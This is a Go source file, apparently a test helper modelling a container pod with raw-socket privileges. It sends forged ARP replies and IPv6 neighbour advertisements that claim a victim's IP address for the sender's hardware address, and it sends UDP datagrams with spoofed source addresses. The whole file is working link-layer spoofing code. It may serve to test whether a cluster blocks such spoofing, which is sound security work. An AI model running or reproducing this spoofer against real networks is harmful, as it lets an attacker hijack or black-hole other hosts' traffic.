package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"syscall"
	"time"
)

const (
	device    = "eth0"
	rounds    = 20
	pause     = 200 * time.Millisecond
	localPort = 40000

	protocolUDP    = 17
	protocolICMPv6 = 58

	neighbourAdvertisement = 136
	override               = 0x20 // RFC 4861 section 4.4
	targetLinkLayer        = 2
)

// A pod that has CAP_NET_RAW and uses it.
type liar struct {
	link *net.Interface
	own  []netip.Addr
}

// lie says for a few seconds to be somebody else: attempt lie PORT VICTIM/TARGET..., an address of the same family
// each. The target gets a datagram from the victim's address, and as many from the liar's own; everybody on the link
// hears that the victim's address is to be found here, and the liar's own one at a hardware address that nobody has.
func lie(arguments []string) error {
	port, err := strconv.ParseUint(arguments[0], 10, 16)
	if err != nil {
		return err
	}
	self, err := ownSelf()
	if err != nil {
		return err
	}
	for range rounds {
		for _, pair := range arguments[1:] {
			victim, target, _ := strings.Cut(pair, "/")
			if err := self.lieAbout(netip.MustParseAddr(victim), netip.MustParseAddr(target), uint16(port)); err != nil {
				return err
			}
		}
		time.Sleep(pause)
	}
	return nil
}

func ownSelf() (*liar, error) {
	link, err := net.InterfaceByName(device)
	if err != nil {
		return nil, err
	}
	addresses, err := link.Addrs()
	if err != nil {
		return nil, err
	}
	self := &liar{link: link}
	for _, address := range addresses {
		prefix, err := netip.ParsePrefix(address.String())
		if err == nil && prefix.Addr().IsGlobalUnicast() {
			self.own = append(self.own, prefix.Addr())
		}
	}
	return self, nil
}

func (self *liar) lieAbout(victim, target netip.Addr, port uint16) error {
	own, err := self.ownLike(victim)
	if err != nil {
		return err
	}
	for _, source := range []netip.Addr{own, victim} {
		if err := sendPacket(target, ipPacket(source, target, protocolUDP, datagram(source, target, port))); err != nil {
			return err
		}
	}
	nobody := net.HardwareAddr{2, 0, 0, 0, 0, 0xee}
	for _, frame := range [][]byte{self.claim(victim, self.link.HardwareAddr), self.claim(own, nobody)} {
		if err := self.sendFrame(frame); err != nil {
			return err
		}
	}
	return nil
}

func (self *liar) ownLike(other netip.Addr) (netip.Addr, error) {
	for _, address := range self.own {
		if address.Is4() == other.Is4() {
			return address, nil
		}
	}
	return netip.Addr{}, fmt.Errorf("%s has no address of the family of %s", device, other)
}

// sendPacket has the kernel find the way and the next hop, and nothing else: raw(7), IPPROTO_RAW.
func sendPacket(to netip.Addr, packet []byte) error {
	family, place := syscall.AF_INET, syscall.Sockaddr(&syscall.SockaddrInet4{Addr: as4(to)})
	if to.Is6() {
		family, place = syscall.AF_INET6, &syscall.SockaddrInet6{Addr: to.As16()}
	}
	socket, err := syscall.Socket(family, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer syscall.Close(socket)
	return syscall.Sendto(socket, packet, 0, place)
}

func as4(address netip.Addr) (bytes [4]byte) {
	copy(bytes[:], address.AsSlice())
	return bytes
}

func (self *liar) sendFrame(frame []byte) error {
	socket, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
	if err != nil {
		return err
	}
	defer syscall.Close(socket)
	return syscall.Sendto(socket, frame, 0, &syscall.SockaddrLinklayer{Ifindex: self.link.Index})
}

// claim tells the link where an address is: an ARP reply that nobody asked for, or a neighbour advertisement.
func (self *liar) claim(address netip.Addr, at net.HardwareAddr) []byte {
	if address.Is4() {
		frame := self.frame(net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, syscall.ETH_P_ARP)
		frame = append(frame, 0, 1, 8, 0, 6, 4, 0, 2)
		frame = append(append(frame, at...), address.AsSlice()...)
		return append(append(frame, at...), address.AsSlice()...)
	}
	allNodes := netip.MustParseAddr("ff02::1")
	message := append([]byte{neighbourAdvertisement, 0, 0, 0, override, 0, 0, 0}, address.AsSlice()...)
	message = append(append(message, targetLinkLayer, 1), at...)
	binary.BigEndian.PutUint16(message[2:], checksum(address, allNodes, protocolICMPv6, message))
	frame := self.frame(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, syscall.ETH_P_IPV6)
	return append(frame, ipPacket(address, allNodes, protocolICMPv6, message)...)
}

func (self *liar) frame(to net.HardwareAddr, kind uint16) []byte {
	return binary.BigEndian.AppendUint16(append(append([]byte{}, to...), self.link.HardwareAddr...), kind)
}

func datagram(from, to netip.Addr, port uint16) []byte {
	udp := binary.BigEndian.AppendUint16(nil, localPort)
	udp = binary.BigEndian.AppendUint16(udp, port)
	udp = binary.BigEndian.AppendUint16(udp, uint16(8+len(question)))
	udp = append(append(udp, 0, 0), question...)
	binary.BigEndian.PutUint16(udp[6:], checksum(from, to, protocolUDP, udp))
	return udp
}

// ipPacket with the hop limit of neighbour discovery. Of IPv4 the kernel fills in length, identification and sum.
func ipPacket(from, to netip.Addr, protocol byte, payload []byte) []byte {
	var header []byte
	if from.Is4() {
		header = []byte{0x45, 0, 0, 0, 0, 0, 0, 0, 255, protocol, 0, 0}
	} else {
		header = binary.BigEndian.AppendUint16([]byte{0x60, 0, 0, 0}, uint16(len(payload)))
		header = append(header, protocol, 255)
	}
	header = append(append(header, from.AsSlice()...), to.AsSlice()...)
	return append(header, payload...)
}

// checksum of RFC 1071, with the pseudo header, which is summed alike in both families.
func checksum(from, to netip.Addr, protocol byte, payload []byte) uint16 {
	all := append(append(from.AsSlice(), to.AsSlice()...), 0, protocol)
	all = binary.BigEndian.AppendUint16(all, uint16(len(payload)))
	all = append(all, payload...)
	if len(all)%2 != 0 {
		all = append(all, 0)
	}
	sum := uint32(0)
	for ; len(all) > 0; all = all[2:] {
		sum += uint32(binary.BigEndian.Uint16(all))
	}
	sum = sum&0xffff + sum>>16
	return ^uint16(sum + sum>>16)
}
